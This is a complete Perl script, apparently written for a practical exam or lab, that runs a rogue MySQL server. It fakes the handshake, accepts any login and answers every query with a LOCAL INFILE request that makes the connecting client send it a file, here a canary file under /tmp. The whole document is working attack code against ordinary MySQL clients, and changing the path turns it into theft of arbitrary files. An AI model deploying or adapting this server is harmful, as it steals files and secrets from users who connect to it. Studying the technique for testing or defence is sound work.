#!/usr/bin/perl
# Speaks just enough of MySQL's protocol to ask every client for a file of its own.
use strict; use warnings; use IO::Socket::INET;
my $listener = IO::Socket::INET->new(LocalPort => 3306, Listen => 50, ReuseAddr => 1) or die;
$SIG{CHLD} = 'IGNORE';
while (my $client = $listener->accept) {
    next if fork;
    my $salt = "12345678"; my $more = "123456789012";
    my $hello = pack("C", 10) . "8.4.0\0" . pack("V", 1) . $salt . "\0" . pack("v", 0xffff)
        . pack("C", 45) . pack("v", 2) . pack("v", 0xc0ff) . pack("C", 21) . ("\0" x 10) . $more
        . "\0mysql_native_password\0";
    print $client substr(pack("V", length $hello), 0, 3) . "\0" . $hello; $client->flush;
    sysread $client, my $login, 4096;
    print $client "\x07\0\0\x02\0\0\0\x02\0\0\0"; $client->flush;
    while (sysread $client, my $query, 65536) {
        my $wanted = "\xfb/tmp/practical-exam-canary/canary";
        print $client substr(pack("V", length $wanted), 0, 3) . "\x01" . $wanted; $client->flush;
    }
    exit;
}
